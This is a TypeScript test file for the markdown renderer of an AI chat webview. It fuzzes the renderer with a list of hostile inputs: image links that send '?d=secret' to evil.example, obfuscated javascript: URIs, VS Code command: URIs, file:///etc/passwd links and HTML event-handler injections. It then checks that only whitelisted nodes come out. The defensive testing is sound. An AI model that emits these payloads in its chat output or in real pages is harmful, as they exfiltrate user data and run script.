import assert from 'node:assert/strict';
import fc from 'fast-check';
import { markdownBlocks } from '../../../src/webview/chat/markdown/markdownBlocks.ts';

/** What a model might write, or be made to write, to have the page load, run or open something. */
const PAYLOADS = [
  '![a](https://evil.example/p.png?d=secret)',
  '![a][r]\n\n[r]: https://evil.example/p.png?d=secret',
  '![r]\n\n[r]: <https://evil.example/p.png?d=secret> "title"',
  '![][r]\n\n> [r]: https://evil.example/p.png',
  '[![a](https://evil.example/p.png)](javascript:alert(1))',
  '[![a](data:image/svg+xml,<svg onload=alert(1)>)](https://evil.example/)',
  '![![a](https://evil.example/1.png)](https://evil.example/2.png)',
  '![a](data:image/png;base64,iVBORw0KGgo=)',
  '![a](command:workbench.action.quit)',
  '![a](//evil.example/p.png)',
  '![a](/p.png)',
  '![a](blob:https://evil.example/1)',
  '![a]( https://evil.example/p.png \'" onerror="alert(1)\')',
  '![a" onerror="alert(1)](https://evil.example/p.png)',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;&#x61;vascript&colon;alert(1))',
  '[a](java&Tab;script:alert(1))',
  '[a](java&NewLine;script:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](javascript&#58;alert(1) "https://baidu.com")',
  '[a](%6Aavascript:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](command:wenxin.clearCredentials)',
  '[a](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)',
  '[a](vscode://vscode.git/clone?url=https://evil.example/x.git)',
  '[a](vscode-insiders://file/etc/passwd)',
  '[a](cursor://anything)',
  '[a](file:///etc/passwd)',
  '[a](\\\\evil.example\\share)',
  '[a](//evil.example/)',
  '[a](https:\\\\evil.example)',
  '[a](https://baidu.com@evil.example/)',
  '[a](https://baidu.com:443@evil.example/)',
  '[https://baidu.com](https://evil.example/)',
  '[baidu.com](https://baidu.com.evil.example/)',
  '[b\u202emoc.udiab\u202c](https://evil.example/)',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '[a][r]\n\n[r]: command:x',
  '[r]\n\n[r]: data:text/html,x "t"',
  '<javascript:alert(1)>',
  '<command:workbench.action.quit>',
  '<data:text/html,<script>alert(1)</script>>',
  '<vscode://file/x>',
  '<https://evil.example/"onmouseover="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  'See javascript:alert(1) command:x vscode://file/x file:///etc/passwd ftp://evil.example',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img srcset="https://evil.example/1.png 1x">',
  '<svg><image href="https://evil.example/p.png"/><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="prefetch" href="https://evil.example/">',
  '<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/p)}</style>',
  '<a href="javascript:alert(1)">a</a>',
  '<form action="https://evil.example/"><input name=a><button>Send</button></form>',
  '<div style="background:url(https://evil.example/p.png)">a</div>',
  '<details open ontoggle=alert(1)>',
  '<!-- --><base href="https://evil.example/">',
  '&lt;img src=x onerror=alert(1)&gt;',
  '`<img src=x onerror=alert(1)>`',
  '```html"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
  '```\n![a](https://evil.example/p.png)\n```',
  '| <img src=x> | ![a](https://evil.example/p.png) |\n|---|---|\n| [a](javascript:alert(1)) | <script>1</script> |',
  '> - [a](javascript:alert(1))\n>   1. ![a](file:///x)',
  '# [a](command:x) ![a](https://evil.example/p.png)',
  '***[a](javascript:alert(1))***',
  '[a](https://evil.example/ "x" onclick="alert(1)")',
  '[__proto__]: javascript:alert(1)\n\n[__proto__] [constructor] [toString]',
];

/** The fields of each node the page has elements for, and what each may hold. */
const ALLOWED: Readonly<Record<string, Readonly<Record<string, (value: unknown) => boolean>>>> = {
  paragraph: { children: Array.isArray },
  line: { children: Array.isArray },
  heading: { level: value => [1, 2, 3, 4, 5, 6].includes(Number(value)), children: Array.isArray },
  quote: { children: Array.isArray },
  list: { start: value => value === undefined || Number.isSafeInteger(value), items: Array.isArray },
  codeBlock: { language: isString, text: isString, closed: value => typeof value === 'boolean' },
  table: { head: Array.isArray, rows: Array.isArray },
  rule: {},
  text: { text: isString },
  code: { text: isString },
  break: {},
  strong: { children: Array.isArray },
  emphasis: { children: Array.isArray },
  strike: { children: Array.isArray },
  link: {
    url: value => /^(?:https?:\/\/[^@/]+(?:\/|$)|mailto:)/.test(String(value)),
    destination: value => value === undefined || isString(value),
    children: Array.isArray,
  },
  image: { alt: isString, host: value => /^[^/@\s]*$/.test(String(value)) },
};

function isString(value: unknown): boolean {
  return typeof value === 'string';
}

/** Walks through all that a page would show, and returns the addresses of its links. */
function assertAllowed(node: unknown, source: string): readonly string[] {
  if (Array.isArray(node)) return node.flatMap(child => assertAllowed(child, source));
  if (typeof node !== 'object' || node === null) return [];
  const fields: Readonly<Record<string, unknown>> = { ...node };
  const kind = fields['kind'];
  if (kind !== undefined) {
    assert.equal(typeof kind, 'string');
    const allowed = ALLOWED[kind as string];
    assert.ok(allowed, `${kind as string} from ${source}`);
    assert.deepEqual(Object.keys(fields).sort(), ['kind', ...Object.keys(allowed)].sort(), source);
    for (const [name, isAllowed] of Object.entries(allowed))
      assert.ok(isAllowed(fields[name]), `${name} from ${source}`);
  }
  const own = kind === 'link' ? [String(fields['url'])] : [];
  return [...own, ...Object.values(fields).flatMap(child => assertAllowed(child, source))];
}

function linksIn(source: string): readonly string[] {
  return assertAllowed(
    markdownBlocks(source).blocks.flatMap(({ nodes }) => nodes),
    source,
  );
}

describe('Markdown from someone who means harm', () => {
  for (const payload of PAYLOADS) {
    it(`becomes allowed nodes only: ${JSON.stringify(payload)}`, () => {
      linksIn(payload);
      linksIn(`- item\n\n  ${payload}`);
      linksIn(`**${payload}** text`);
    });
  }

  it('offers no link but those to the web', () => {
    const links = PAYLOADS.filter(payload => !payload.includes('https://')).flatMap(linksIn);
    assert.deepEqual(links, []);
  });

  it('becomes allowed nodes only, however its parts are put together', () => {
    const parts = fc.constantFrom(
      ...PAYLOADS,
      ...[
        '[',
        ']',
        '(',
        ')',
        '<',
        '>',
        '!',
        '`',
        '\n',
        '\n\n',
        ' ',
        '*',
        '_',
        '\\',
        '&#58;',
        ':',
        '//',
        '"',
        "'",
        '|',
        '\u202e',
        '\u0000',
      ],
    );
    fc.assert(
      fc.property(fc.array(parts, { maxLength: 8 }), pieces => {
        linksIn(pieces.join(''));
      }),
      { numRuns: 500 },
    );
  });

  it('becomes allowed nodes only, and not many levels of them, when it is deep', () => {
    for (const mark of ['>', '- ', '1. ', '[', '![', '*', '**', '`', '(', '[a](', '*a **b ', '~~a ', '[a *b ']) {
      const end = mark === '*a **b ' ? 'c** d*' : mark === '~~a ' ? 'c~~' : 'c*](https://a.cn/)';
      const source = `${mark.repeat(300)}text${end.repeat(300)}`;
      linksIn(source);
      assert.ok(depthOf(markdownBlocks(source).blocks) < 400, mark);
    }
  });
});

function depthOf(node: unknown): number {
  let depth = 0;
  for (let level: unknown[] = [node]; level.length > 0; depth++) {
    level = level.flatMap(value =>
      typeof value === 'object' && value !== null ? Object.values<unknown>({ ...value }) : [],
    );
  }
  return depth;
}
